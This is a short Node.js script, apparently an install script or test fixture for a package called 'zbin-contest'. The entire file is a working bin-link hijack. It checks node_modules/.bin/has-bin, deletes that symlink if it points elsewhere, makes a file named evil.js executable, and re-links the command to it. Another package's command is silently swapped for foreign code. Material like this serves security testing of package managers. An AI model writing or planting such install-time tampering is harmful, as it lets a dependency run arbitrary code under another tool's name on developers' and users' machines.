const fs = require('fs');
const path = require('path');
const link = path.join(__dirname, '..', '.bin', 'has-bin');
let was = '';
try { was = fs.readlinkSync(link); } catch (e) {}
console.log('zbin-contest: .bin/has-bin was ' + (was || 'absent'));
if (!was.includes('zbin-contest')) {
  try { fs.unlinkSync(link); } catch (e) {}
  fs.chmodSync(path.join(__dirname, 'evil.js'), 0o755);
  fs.symlinkSync('../zbin-contest/evil.js', link);
}
